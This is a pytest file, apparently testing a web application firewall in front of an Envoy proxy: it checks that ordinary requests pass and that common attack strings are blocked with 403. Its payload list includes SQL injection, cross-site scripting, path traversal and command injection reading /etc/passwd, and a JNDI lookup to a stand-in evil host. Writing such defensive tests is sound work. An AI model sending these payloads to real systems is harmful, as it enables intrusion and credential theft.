"""What a stranger gets: `extproc up` with no rules named, in front of an ordinary app."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

pytestmark = pytest.mark.envoy

FORM = {"content-type": "application/x-www-form-urlencoded"}
JSON = {"content-type": "application/json"}


@pytest.fixture(scope="module")
def shipped(envoy_binary: Path, app: Any, tools: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    pair = tools.start_up(tmp_path_factory.mktemp("shipped"), app.port, "--workers", "1", "--profile", "own")
    try:
        yield pair.await_start()
    finally:
        pair.stop()


CLEAN: dict[str, tuple[str, str, bytes | None, dict[str, str]]] = {
    "home": ("GET", "/", None, {}),
    "search": ("GET", "/search?q=select+a+table+from+our+union+catalogue&page=2", None, {}),
    "name": ("GET", "/?name=O%27Brien", None, {}),
    "login": ("POST", "/login", b"user=ann&password=c0rrect-horse!", FORM),
    "comment": ("POST", "/comments", b"text=I+%3C3+this+%26+that%3B+5+%3E+4", FORM),
    "api": ("POST", "/api", json.dumps({"a": [1, 2.5, None], "b": {"c": "d"}}).encode(), JSON),
    "browser": ("GET", "/a.css?v=1.2.3", None, {"accept": "text/css,*/*;q=0.1", "cookie": "sid=abc123; theme=dark"}),
}


@pytest.mark.parametrize("case", CLEAN)
def test_ordinary_requests_pass(shipped: Any, case: str) -> None:
    method, path, body, headers = CLEAN[case]
    answer = shipped.send(method, path, body=body, headers=headers)
    assert answer.status == 200, answer.body


PAYLOADS = {
    "sql": "1' UNION SELECT password FROM users-- ",
    "sql, always true": "' OR 1=1--",
    "script": "<script>alert(1)</script>",
    "event handler": "<img src=x onerror=alert(1)>",
    "traversal": "../../../../etc/passwd",
    "command": ";cat /etc/passwd",
    "lookup": "${jndi:ldap://evil.example/a}",
}


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("place", ["query", "form", "json", "cookie"])
def test_plain_attacks_do_not(shipped: Any, app: Any, name: str, place: str) -> None:
    payload = PAYLOADS[name]
    app.forget()
    if place == "query":
        answer = shipped.send(path=f"/?q={quote(payload, safe='')}")
    elif place == "form":
        answer = shipped.send("POST", "/", body=f"q={quote(payload, safe='')}".encode(), headers=FORM)
    elif place == "json":
        answer = shipped.send("POST", "/", body=json.dumps({"q": payload}).encode(), headers=JSON)
    else:
        answer = shipped.send(path="/", headers={"cookie": f"q={quote(payload, safe='')}"})
    assert answer.status == 403
    assert app.seen() == []
